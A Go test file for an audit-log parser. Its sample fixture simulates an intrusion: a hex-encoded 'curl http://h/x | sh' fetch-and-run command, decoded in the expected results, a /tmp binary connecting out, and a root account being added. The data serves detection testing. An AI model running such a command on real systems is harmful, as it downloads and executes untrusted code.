package auditlog

import (
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

const sample = `type=SYSCALL msg=audit(1795374000.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=55d ppid=812 pid=900 auid=4294967295 uid=33 gid=33 euid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" subj=unconfined key="exec"
type=EXECVE msg=audit(1795374000.123:456): argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F682F78207C207368
type=CWD msg=audit(1795374000.123:456): cwd="/tmp"
node=shop type=SYSCALL msg=audit(1795374001.000:457): arch=c000003e syscall=42 success=no exit=-115 pid=901 auid=1000 uid=0 comm="kdev" exe="/tmp/kdev" key="net"
node=shop type=SOCKADDR msg=audit(1795374001.000:457): saddr=020001BBCB0071420000000000000000
type=SOCKADDR msg=audit(1795374001.000:458): saddr=01002F72756E
type=ADD_USER msg=audit(1795374002.000:459): pid=902 uid=0 auid=1000 ses=3 msg='op=adding user acct="svc" exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success'
type=USER_CMD msg=audit(1795374003.000:460): pid=910 uid=1000 auid=1000 ses=3 subj=unconfined msg='cwd="/home/ops" cmd=69707461626C6573202D4C exe="/usr/bin/sudo" terminal=pts/0 res=success'
type=USER_CMD msg=audit(1795374003.500:461): pid=911 uid=1000 auid=1000 ses=3 msg='cwd="/home/ops" cmd="reboot" terminal=pts/0 res=failed'
type=NETFILTER_CFG msg=audit(1795374004.000:462): table=filter:42 family=2 entries=1 op=nft_register_rule pid=912 subj=unconfined comm="iptables"
type=NETFILTER_CFG msg=audit(1795374004.000:462): table=filter:42 family=2 entries=1 op=nft_register_rule pid=912 subj=unconfined comm="iptables"
type=SYSCALL msg=audit(1795374004.000:462): arch=c000003e syscall=46 success=yes pid=912 auid=1000 uid=0 comm="iptables" exe="/usr/sbin/xtables-nft-multi"
type=PROCTITLE msg=audit(1795374004.000:462): proctitle=69707461626C6573002D4C
nonsense
`

func collect(text string) (out []Event) { return collectAs(false, text) }

func collectAs(brief bool, text string) (out []Event) {
	c := &Collector{Brief: brief, Tell: func(e Event) { out = append(out, e) }}
	n := 0
	for line := range strings.Lines(text) {
		n++
		c.Add([]byte(strings.TrimSuffix(line, "\n")), n, 0)
	}
	c.Close()
	return out
}

func TestCollect(t *testing.T) {
	at := time.Unix(1795374000, 0).UTC()
	want := []Event{
		{Kind: "audit-exec", Time: at.Add(123 * time.Millisecond), Serial: 456, Line: 1, PID: 900, UID: 33, Login: -1, Exe: "/usr/bin/dash", Comm: "sh",
			Argv: []string{"sh", "-c", "curl http://h/x | sh"}},
		{Kind: "audit-connect", Time: at.Add(time.Second), Serial: 457, Line: 4, PID: 901, UID: 0, Login: 1000, Exe: "/tmp/kdev", Comm: "kdev", Peer: "203.0.113.66:443"},
		{Kind: "audit-user", Time: at.Add(2 * time.Second), Serial: 459, Line: 7, PID: 902, UID: 0, Login: 1000, Exe: "/usr/sbin/useradd", Op: "adding", Account: "svc"},
		{Kind: "audit-command", Time: at.Add(3 * time.Second), Serial: 460, Line: 8, PID: 910, UID: 1000, Login: 1000, Exe: "/usr/bin/sudo", Command: "iptables -L"},
		{Kind: "audit-firewall", Time: at.Add(4 * time.Second), Serial: 462, Line: 10, PID: 912, UID: 0, Login: 1000, Exe: "/usr/sbin/xtables-nft-multi",
			Comm: "iptables", Op: "nft_register_rule", Command: "iptables -L"},
	}
	if d := cmp.Diff(want, collect(sample), cmp.AllowUnexported(Event{})); d != "" {
		t.Error(d)
	}
}

// In brief the same is told of what is told at all: the records of an event
// that nobody asked for do not get in between.
func TestBrief(t *testing.T) {
	want := slices.DeleteFunc(collect(sample), func(e Event) bool { return e.Kind != "audit-command" && e.Kind != "audit-firewall" })
	if d := cmp.Diff(want, collectAs(true, sample)); d != "" || len(want) != 2 {
		t.Error(d)
	}
}

// Every line that gives a kind holds an anchor.
func TestAnchors(t *testing.T) {
	for line := range strings.Lines(sample) {
		has := false
		for _, a := range Anchors {
			has = has || strings.Contains(line, a)
		}
		if got := collect(line); len(got) > 0 && !has {
			t.Error(line)
		}
	}
}

func FuzzCollect(f *testing.F) {
	f.Add(sample)
	f.Add("type=EXECVE msg=audit(1.2:3): argc=9999999 a0=00")
	f.Fuzz(func(t *testing.T, text string) {
		for _, e := range collect(text) {
			if e.Kind == "" || len(e.Argv) > maxArgs || !utf8.ValidString(e.Exe+e.Account+e.Op+e.Command+strings.Join(e.Argv, "")) {
				t.Errorf("%+v", e)
			}
		}
	})
}
